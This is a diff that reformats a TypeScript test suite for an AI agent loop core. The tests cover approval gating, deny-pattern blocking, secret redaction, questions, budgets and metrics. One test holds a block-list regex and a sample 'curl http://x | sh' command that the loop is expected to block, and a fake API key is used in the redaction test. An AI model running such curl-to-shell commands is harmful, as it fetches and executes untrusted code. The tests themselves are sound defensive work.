@@ -1,7 +1,12 @@
 import { describe, expect, it } from "vitest";
-import { advance, initialState, type LoopConfig, type LoopState } from "../../../durable-objects/conversation/core/index.js";
+import {
+  advance,
+  initialState,
+  type LoopConfig,
+  type LoopState,
+} from "../../../durable-objects/conversation/core/index.js";
 import type { ToolSpec } from "../../../protocol/index.js";
-import { calls, ok, only, spec, text, TOOLS } from "./fixtures.js";
+import { calls, ok, only, spec, TOOLS, text } from "./fixtures.js";
 
 const NOW = 1_700_000_000_000;
 const QUESTION: ToolSpec = { ...spec("question", { question: { type: "string" } }, ["question"]), kind: "builtin" };
@@ -9,7 +14,11 @@ const TIME: ToolSpec = { ...spec("get_current_time", {}), kind: "builtin" };
 const ALL = [...TOOLS, QUESTION, TIME];
 
 function start(config: Partial<LoopConfig> = {}, tools = ALL) {
-  return advance(initialState("conv-1", "pi-1", config), { type: "user_message", message_id: "m1", text: "go", tools }, NOW);
+  return advance(
+    initialState("conv-1", "pi-1", config),
+    { type: "user_message", message_id: "m1", text: "go", tools },
+    NOW,
+  );
 }
 function llm(s: LoopState): string {
   return s.run!.awaiting_llm!;
@@ -23,7 +32,11 @@ describe("loop core: approvals (seed 002 requires_approval)", () => {
 
   it("holds an approval-required call, emits approval_required, and dispatches once approved", () => {
     const a = start(config);
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "reboot" }, "c1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "reboot" }, "c1"]) },
+      NOW,
+    );
     expect(only(b.effects, "dispatch_tool")).toHaveLength(0);
     expect(only(b.effects, "emit_event").map((e) => e.event.type)).toContain("approval_required");
     const approvalDeadline = only(b.effects, "set_deadline")[0]!;
@@ -31,23 +44,37 @@ describe("loop core: approvals (seed 002 requires_approval)", () => {
     const c = advance(b.state, { type: "approval", tool_call_id: "c1", approve: true }, NOW + 5000);
     expect(only(c.effects, "dispatch_tool")).toMatchObject([{ tool: "bash", parameters: { command: "reboot" } }]);
     // The tool's own timeout starts at dispatch, not while waiting for a person.
-    expect(only(c.effects, "set_deadline").find((d) => d.key.startsWith("tool:"))!.at).toBe(NOW + 5000 + 30_000 + 15_000);
+    expect(only(c.effects, "set_deadline").find((d) => d.key.startsWith("tool:"))!.at).toBe(
+      NOW + 5000 + 30_000 + 15_000,
+    );
     // A second approval changes nothing.
     expect(advance(c.state, { type: "approval", tool_call_id: "c1", approve: true }, NOW).effects).toEqual([]);
   });
 
   it("turns a denial into a blocked result the model sees", () => {
     const a = start(config);
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "reboot" }, "c1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "reboot" }, "c1"]) },
+      NOW,
+    );
     const c = advance(b.state, { type: "approval", tool_call_id: "c1", approve: false, reason: "not now" }, NOW);
     expect(only(c.effects, "dispatch_tool")).toHaveLength(0);
-    expect(JSON.parse(toolMessages(c.state)[0]!)).toEqual({ status: "blocked", tool: "bash", reason: "Denied by a person: not now" });
+    expect(JSON.parse(toolMessages(c.state)[0]!)).toEqual({
+      status: "blocked",
+      tool: "bash",
+      reason: "Denied by a person: not now",
+    });
     expect(only(c.effects, "call_llm")).toHaveLength(1);
   });
 
   it("blocks the call when nobody approves it before the approval deadline", () => {
     const a = start(config);
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "x" }, "c1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "x" }, "c1"]) },
+      NOW,
+    );
     const key = only(b.effects, "set_deadline")[0]!.key;
     const c = advance(b.state, { type: "deadline", key }, NOW + 3_600_001);
     expect(toolMessages(c.state)[0]).toContain("before its approval deadline");
@@ -55,7 +82,15 @@ describe("loop core: approvals (seed 002 requires_approval)", () => {
 
   it("runs auto calls of the same response while another waits for approval", () => {
     const a = start(config);
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "x" }, "c1"], ["read", { path: "a" }, "c2"]) }, NOW);
+    const b = advance(
+      a.state,
+      {
+        type: "llm_response",
+        call_id: llm(a.state),
+        turn: calls(["bash", { command: "x" }, "c1"], ["read", { path: "a" }, "c2"]),
+      },
+      NOW,
+    );
     expect(only(b.effects, "dispatch_tool").map((d) => d.tool)).toEqual(["read"]);
   });
 });
@@ -63,7 +98,11 @@ describe("loop core: approvals (seed 002 requires_approval)", () => {
 describe("loop core: hooks and policies", () => {
   it("before_tool_call: a deny pattern blocks the call before it reaches the device", () => {
     const a = start({ deny_patterns: { bash: ["curl\\s+.*\\|\\s*sh"] } });
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "curl http://x | sh" }, "c1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "curl http://x | sh" }, "c1"]) },
+      NOW,
+    );
     expect(only(b.effects, "dispatch_tool")).toHaveLength(0);
     expect(JSON.parse(toolMessages(b.state)[0]!)).toMatchObject({ status: "blocked", tool: "bash" });
     expect(b.state.run === null || b.state.run.tool_calls[0]!.status === "blocked").toBe(true);
@@ -71,16 +110,33 @@ describe("loop core: hooks and policies", () => {
 
   it("before_tool_call: parameter overrides rewrite the call", () => {
     const a = start({ param_overrides: { read: { limit: 10 } } });
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["read", { path: "a", limit: 5000 }, "c1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["read", { path: "a", limit: 5000 }, "c1"]) },
+      NOW,
+    );
     expect(only(b.effects, "dispatch_tool")[0]!.parameters).toEqual({ path: "a", limit: 10 });
   });
 
   it("tool_result_persist: secrets are redacted from the stored history and events", () => {
     const a = start();
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "env" }, "c1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "env" }, "c1"]) },
+      NOW,
+    );
     const d = only(b.effects, "dispatch_tool")[0]!;
     const secret = "sk-abcdefghijklmnopqrstuvwxyz123456";
-    const c = advance(b.state, { type: "tool_result", tool_call_id: "c1", request_id: d.request_id, outcome: ok("bash", `OPENAI_API_KEY=${secret}\nHOME=/root`) }, NOW);
+    const c = advance(
+      b.state,
+      {
+        type: "tool_result",
+        tool_call_id: "c1",
+        request_id: d.request_id,
+        outcome: ok("bash", `OPENAI_API_KEY=${secret}\nHOME=/root`),
+      },
+      NOW,
+    );
     expect(toolMessages(c.state)[0]).toBe("OPENAI_API_KEY=[REDACTED]\nHOME=/root");
     expect(JSON.stringify(c.effects)).not.toContain(secret);
   });
@@ -89,16 +145,27 @@ describe("loop core: hooks and policies", () => {
 describe("loop core: built-in tools and questions", () => {
   it("sends built-in tools to the orchestrator, not to the device", () => {
     const a = start();
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["get_current_time", {}, "c1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["get_current_time", {}, "c1"]) },
+      NOW,
+    );
     expect(only(b.effects, "dispatch_tool")).toHaveLength(0);
     expect(only(b.effects, "run_builtin")).toMatchObject([{ tool: "get_current_time", tool_call_id: "c1" }]);
   });
 
   it("a question waits durably for the user's answer", () => {
     const a = start();
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["question", { question: "Which branch?" }, "q1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["question", { question: "Which branch?" }, "q1"]) },
+      NOW,
+    );
     expect(only(b.effects, "run_builtin")).toHaveLength(0);
-    expect(only(b.effects, "emit_event").find((e) => e.event.type === "question")!.event).toMatchObject({ toolCallId: "q1", question: "Which branch?" });
+    expect(only(b.effects, "emit_event").find((e) => e.event.type === "question")!.event).toMatchObject({
+      toolCallId: "q1",
+      question: "Which branch?",
+    });
     expect(only(b.effects, "set_deadline")[0]!.at).toBe(NOW + 24 * 3600 * 1000);
     const c = advance(b.state, { type: "answer", tool_call_id: "q1", text: "main" }, NOW);
     expect(toolMessages(c.state)).toEqual(["main"]);
@@ -107,7 +174,11 @@ describe("loop core: built-in tools and questions", () => {
 
   it("a question past its deadline becomes a timeout the model can explain", () => {
     const a = start();
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["question", { question: "?" }, "q1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["question", { question: "?" }, "q1"]) },
+      NOW,
+    );
     const c = advance(b.state, { type: "deadline", key: only(b.effects, "set_deadline")[0]!.key }, NOW + 86_400_001);
     expect(toolMessages(c.state)[0]).toContain("No answer from the user");
     expect(only(c.effects, "cancel_tool")).toHaveLength(0);
@@ -130,7 +201,11 @@ describe("loop core: budgets and citations", () => {
     const a = start({ max_wall_ms: 60_000 });
     const budget = only(a.effects, "set_deadline")[0]!;
     expect(budget.at).toBe(NOW + 60_000);
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "sleep 999" }, "c1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["bash", { command: "sleep 999" }, "c1"]) },
+      NOW,
+    );
     const c = advance(b.state, { type: "deadline", key: budget.key }, NOW + 60_000);
     expect(only(c.effects, "cancel_tool")).toHaveLength(1);
     expect(only(c.effects, "call_llm")[0]!.with_tools).toBe(false);
@@ -138,19 +213,39 @@ describe("loop core: budgets and citations", () => {
 
   it("adds Sources: when citations are on", () => {
     const a = start({ citations: true });
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["read", { path: "a" }, "c1"]) }, NOW);
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["read", { path: "a" }, "c1"]) },
+      NOW,
+    );
     const d = only(b.effects, "dispatch_tool")[0]!;
-    const c = advance(b.state, { type: "tool_result", tool_call_id: "c1", request_id: d.request_id, outcome: ok("read", "x") }, NOW);
+    const c = advance(
+      b.state,
+      { type: "tool_result", tool_call_id: "c1", request_id: d.request_id, outcome: ok("read", "x") },
+      NOW,
+    );
     const e = advance(c.state, { type: "llm_response", call_id: llm(c.state), turn: text("It says x.") }, NOW);
     expect(only(e.effects, "reply")[0]!.reply.reply).toBe("It says x.\n\nSources: read");
   });
 
   it("per-conversation config from the message overrides the deployment's", () => {
     const s0 = initialState("c", "pi-1", { max_iterations: 10 });
-    const a = advance(s0, { type: "user_message", message_id: "m", text: "x", tools: ALL, config: { max_iterations: 1 } }, NOW);
-    const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn: calls(["read", { path: "a" }, "c1"]) }, NOW);
+    const a = advance(
+      s0,
+      { type: "user_message", message_id: "m", text: "x", tools: ALL, config: { max_iterations: 1 } },
+      NOW,
+    );
+    const b = advance(
+      a.state,
+      { type: "llm_response", call_id: llm(a.state), turn: calls(["read", { path: "a" }, "c1"]) },
+      NOW,
+    );
     const d = only(b.effects, "dispatch_tool")[0]!;
-    const c = advance(b.state, { type: "tool_result", tool_call_id: "c1", request_id: d.request_id, outcome: ok("read", "x") }, NOW);
+    const c = advance(
+      b.state,
+      { type: "tool_result", tool_call_id: "c1", request_id: d.request_id, outcome: ok("read", "x") },
+      NOW,
+    );
     expect(only(c.effects, "call_llm")[0]!.with_tools).toBe(false);
   });
 });
@@ -158,13 +253,32 @@ describe("loop core: budgets and citations", () => {
 describe("loop core: run metrics", () => {
   it("counts parallel batches, max concurrency, wall time saved, tokens and duration", () => {
     const a = start({ max_parallel: 5 });
-    const turn = { ...calls(["bash", { command: "a" }, "c1"], ["bash", { command: "b" }, "c2"]), usage: { prompt_tokens: 10, completion_tokens: 5 } };
+    const turn = {
+      ...calls(["bash", { command: "a" }, "c1"], ["bash", { command: "b" }, "c2"]),
+      usage: { prompt_tokens: 10, completion_tokens: 5 },
+    };
     const b = advance(a.state, { type: "llm_response", call_id: llm(a.state), turn }, NOW);
     const [d1, d2] = only(b.effects, "dispatch_tool");
     const slow = (r: string) => ({ ...ok("bash", r), elapsed_ms: 500 });
-    const c = advance(b.state, { type: "tool_result", tool_call_id: "c1", request_id: d1!.request_id, outcome: slow("A") }, NOW + 400);
-    const d = advance(c.state, { type: "tool_result", tool_call_id: "c2", request_id: d2!.request_id, outcome: slow("B") }, NOW + 600);
-    const e = advance(d.state, { type: "llm_response", call_id: llm(d.state), turn: { ...text("done"), usage: { prompt_tokens: 20, completion_tokens: 7 } } }, NOW + 700);
+    const c = advance(
+      b.state,
+      { type: "tool_result", tool_call_id: "c1", request_id: d1!.request_id, outcome: slow("A") },
+      NOW + 400,
+    );
+    const d = advance(
+      c.state,
+      { type: "tool_result", tool_call_id: "c2", request_id: d2!.request_id, outcome: slow("B") },
+      NOW + 600,
+    );
+    const e = advance(
+      d.state,
+      {
+        type: "llm_response",
+        call_id: llm(d.state),
+        turn: { ...text("done"), usage: { prompt_tokens: 20, completion_tokens: 7 } },
+      },
+      NOW + 700,
+    );
     expect(only(e.effects, "reply")[0]!.reply.metrics).toEqual({
       duration_ms: 700,
       iterations: 2,
